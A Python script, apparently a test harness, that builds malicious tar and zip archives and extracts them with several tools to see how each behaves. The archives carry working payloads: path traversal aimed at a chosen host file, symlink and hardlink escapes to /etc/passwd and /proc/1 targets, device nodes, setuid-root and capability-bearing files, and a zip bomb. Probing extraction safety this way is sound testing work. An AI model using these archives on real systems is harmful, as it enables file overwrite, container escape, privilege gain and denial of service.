# Packs what archives have been used for, unpacks it with every tool that a box has, and tells what each did.
import io, os, subprocess, sys, tarfile, zipfile
host_file = sys.argv[1]
os.makedirs("/home/sandbox/out", exist_ok=True)
os.chdir("/home/sandbox")

def entry(name, **fields):
    info = tarfile.TarInfo(name)
    for field, value in fields.items(): setattr(info, field, value)
    return info

def add(archive, name, content=b"from the archive", **fields):
    archive.addfile(entry(name, size=len(content), **fields), io.BytesIO(content))

with tarfile.open("evil.tar", "w", format=tarfile.PAX_FORMAT) as evil:
    add(evil, "../" * 12 + host_file.lstrip("/"))
    add(evil, host_file)
    add(evil, "C:\\Windows\\x")
    evil.addfile(entry("link", type=tarfile.SYMTYPE, linkname=os.path.dirname(host_file)))
    add(evil, "link/" + os.path.basename(host_file))
    evil.addfile(entry("root", type=tarfile.SYMTYPE, linkname="/proc/1/root/etc"))
    add(evil, "root/passwd")
    evil.addfile(entry("hard", type=tarfile.LNKTYPE, linkname="/etc/passwd"))
    evil.addfile(entry("hardguest", type=tarfile.LNKTYPE, linkname="/proc/1/exe"))
    evil.addfile(entry("disk", type=tarfile.BLKTYPE, devmajor=8, devminor=0, mode=0o666))
    evil.addfile(entry("memory", type=tarfile.CHRTYPE, devmajor=1, devminor=1, mode=0o666))
    add(evil, "setuid", mode=0o6755, uid=0, gid=0)
    add(evil, "capable", mode=0o755, pax_headers={"SCHILY.xattr.security.capability": "\1\0\0\2\xff\xff\0\0\0\0\0\0\0\0\0\0\0\0\0\0"})
    add(evil, "n" * 255)
    add(evil, "d/" * 300 + "deep")
    add(evil, "twice"); add(evil, "twice", b"the other")
    add(evil, "\udcff\udcfe".encode("utf-8", "surrogateescape").decode("latin-1"))
    evil.addfile(entry("shut", type=tarfile.DIRTYPE, mode=0))
with open("huge.tar", "wb") as huge:                         # says that it holds 8 TiB
    huge.write(entry("huge", size=8 << 40).tobuf(tarfile.GNU_FORMAT) + b"x" * 4096)
with open("broken.tar", "wb") as broken:
    header = bytearray(entry("broken", size=5).tobuf())
    header[148:156] = b"0000000\0"
    broken.write(bytes(header) + b"12345" + b"\0" * 2000)
with zipfile.ZipFile("evil.zip", "w", zipfile.ZIP_DEFLATED) as evil:
    evil.writestr("../" * 12 + host_file.lstrip("/"), "from the archive")
    evil.writestr(host_file, "from the archive")
    evil.writestr("bomb", b"\0" * (300 << 20))
with tarfile.open("many.tar", "w") as many:
    for number in range(30000): many.addfile(entry(f"many{number}"))

for tool in (
    ["tar", "-xf", "evil.tar", "-C", "out"], ["tar", "-xPf", "evil.tar", "-C", "out"], ["tar", "-xf", "huge.tar", "-C", "out"],
    ["tar", "-xf", "broken.tar", "-C", "out"], ["tar", "-xf", "many.tar", "-C", "out"],
    ["python3", "-m", "tarfile", "-e", "evil.tar", "out"], ["python3", "-m", "zipfile", "-e", "evil.zip", "out"],
):
    done = subprocess.run(tool, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    print(*tool, "->", done.returncode, done.stderr[-200:], flush=True)
